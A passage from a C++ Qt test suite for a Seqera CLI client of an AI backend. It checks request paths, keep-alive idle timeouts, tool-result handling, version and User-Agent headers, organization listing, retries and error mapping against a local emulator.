    QCOMPARE(failed.count(), 0); // not inside the call
    inside = false;
    QTRY_VERIFY(sent && cancelled && expired && posted && history);
    QTRY_COMPARE(failed.count(), 1);
    for (const Error &e :
        { *sent, *cancelled, *expired, *posted, *history, failed.first().first().value<Error>() })
        QCOMPARE(e.code, Error::Code::InvalidInput);
    QVERIFY(!client->isStreaming());

    // On the wire: two session creations and one list, nothing else, nothing outside /v1/cli.
    QStringList paths;
    for (const QJsonValue &v : recordedRequests()) {
        const QString path = v.toObject().value("path").toString();
        QVERIFY2(!path.contains(QLatin1String("api/token")) && !path.contains(QLatin1String("..")),
            qPrintable(path));
        paths << v.toObject().value("method").toString() + QLatin1Char(' ')
                + path.section(QLatin1Char('?'), 0, 0);
    }
    QCOMPARE(paths,
        QStringList({ "POST /v1/cli/sessions", "POST /v1/cli/sessions", "GET /v1/cli/sessions" }));
}

void TestAiBackendClient::keepAlivesOnlyEndTheRun()
{
    // The stream stays open and gets SSE comments and `ping` events every 50 ms, so neither
    // the HTTP layer's idle timeout nor a reconnect ever ends it: only the client's clock.
    auto client = makeClient();
    client->setEventIdleTimeoutMs(400);
    const QString session = createSession(*client);
    script({ { "scenario", "keepalive-only" }, { "keepaliveMs", 50 } });
    QElapsedTimer timer;
    timer.start();
    const Run run = runMessage(*client, session, QStringLiteral("keep me waiting"));
    QVERIFY(run.failure.has_value());
    QCOMPARE(run.failure->code, Error::Code::Timeout);
    QVERIFY2(run.failure->message.contains(QLatin1String("keep-alives"))
            && run.failure->message.contains(QLatin1String("SEQERA_AI_IDLE_TIMEOUT_MS")),
        qPrintable(run.failure->message));
    QVERIFY(timer.elapsed() >= 400);
    QVERIFY2(timer.elapsed() < 5000, qPrintable(QString::number(timer.elapsed())));
    QVERIFY(run.find(Type::Start)); // an event came, then only keep-alives
    QCOMPARE(run.reconnects, 0);
    QVERIFY(!client->isStreaming());
}

void TestAiBackendClient::owedToolResultPausesTheIdleClock()
{
    // While a local tool runs (or waits for the user's approval) the backend waits for us and
    // sends only keep-alives: that silence is ours, and must not end the run.
    auto client = makeClient();
    client->setEventIdleTimeoutMs(300);
    const QString session = createSession(*client);
    script({ { "scenario", "tool-call" }, { "keepaliveMs", 50 } });
    const Run run
        = runMessage(*client, session, QStringLiteral("tool-call"), [&](const AiEvent &e) {
              if (e.type != Type::ExecuteLocal)
                  return;
              QTimer::singleShot(900, client.get(), [&, requestId = e.requestId] {
                  seqera::ai::ToolResult result;
                  result.stdoutText = QStringLiteral("slow-tool-ok\n");
                  client->postToolResult(session, requestId, result,
                      [](const Error &error) { QVERIFY2(!error, qPrintable(error.message)); });
              });
          });
    QVERIFY2(!run.failure, qPrintable(run.failure ? run.failure->message : QString()));
    QCOMPARE(
        run.text(), QStringLiteral("Let me check.The tool printed: slow-tool-ok (exit code 0)"));
}

void TestAiBackendClient::protocolVersionAndUserAgentOnTheWire()
{
    // ai-protocol §2: X-Client-Version is the protocol level implemented (one constant), the
    // User-Agent says who we are.
    QCOMPARE(QLatin1String(seqera::ai::kClientProtocolVersion), QLatin1String("1.12.0"));
    AiBackendClient client(&m_network, baseUrl());
    client.setToken(kGoodToken);
    client.setRetryPolicy(3, 20);
    QCOMPARE(client.clientVersion(), QStringLiteral("1.12.0"));
    const QString session = createSession(client);
    std::optional<Error> listed;
    client.listSessions(
        {}, 5, [&](const QList<seqera::ai::AiSessionInfo> &, const Error &e) { listed = e; });
    QTRY_VERIFY(listed.has_value());
    client.setClientVersion(QStringLiteral("1.13.0")); // SEQERA_AI_CLIENT_VERSION
    QVERIFY(!send(client, session, QStringLiteral("hello")));
    client.setClientVersion(QString()); // not set: the constant again
    std::optional<Error> credits;
    client.credits({}, [&](const QJsonObject &, const Error &e) { credits = e; });
    QTRY_VERIFY(credits.has_value());

    const QString userAgent
        = QStringLiteral("seqera-cli/3.2.1-test Qt/") + QLatin1String(qVersion());
    QStringList versions;
    for (const QJsonValue &v : recordedRequests()) {
        const QJsonObject r = v.toObject();
        QCOMPARE(r.value("userAgent").toString(), userAgent);
        versions << r.value("clientVersion").toString();
    }
    QCOMPARE(versions, QStringList({ "1.12.0", "", "1.13.0", "1.12.0" }));
}

void TestAiBackendClient::organizationsThroughTheClient()
{
    auto client = makeClient();
    auto fetch = [&] {
        std::optional<std::pair<QList<seqera::ai::Organization>, Error>> answer;
        client->organizations([&](const QList<seqera::ai::Organization> &list, const Error &e) {
            answer.emplace(list, e);
        });
        [&] { QTRY_VERIFY(answer.has_value()); }();
        return answer.value_or(std::make_pair(QList<seqera::ai::Organization>(),
            Error(Error::Code::Protocol, QStringLiteral("no answer"))));
    };
    const auto [list, error] = fetch();
    QVERIFY2(!error, qPrintable(error.message));
    QCOMPARE(list.size(), 4);
    QCOMPARE(list.at(1), (seqera::ai::Organization { "1001", "Seqera Labs", "team" }));
    QCOMPARE(list.at(2).id, QStringLiteral("2002")); // sent as a string
    const QJsonObject request = recordedRequests().last().toObject();
    QCOMPARE(request.value("path").toString(), QStringLiteral("/v1/cli/organizations"));
    QCOMPARE(request.value("auth").toString(), QStringLiteral("1234"));
    QCOMPARE(request.value("clientVersion").toString(), QString()); // none on orgs (§2)
    QVERIFY(request.value("userAgent").toString().startsWith(QLatin1String("seqera-cli/")));

    // The client's retries: a 502 passes on the second try.
    m_emulator->reset();
    inject("fail", { { "match", "/organizations" }, { "status", 502 }, { "count", 1 } });
    const auto [retried, retryError] = fetch();
    QVERIFY2(!retryError, qPrintable(retryError.message));
    QCOMPARE(retried.size(), 4);
    QCOMPARE(recordedRequests().size(), 2);

    // The client's error mapping: a refused token is Unauthorized (the caller renews once).
    m_emulator->post(QStringLiteral("/__test/unauthorized"), QJsonObject { { "count", 1 } });
    const auto [none, refused] = fetch();
    QVERIFY(none.isEmpty());
    QCOMPARE(refused.code, Error::Code::Unauthorized);
}

QTEST_GUILESS_MAIN(TestAiBackendClient)
#include "tst_aibackendclient.moc"
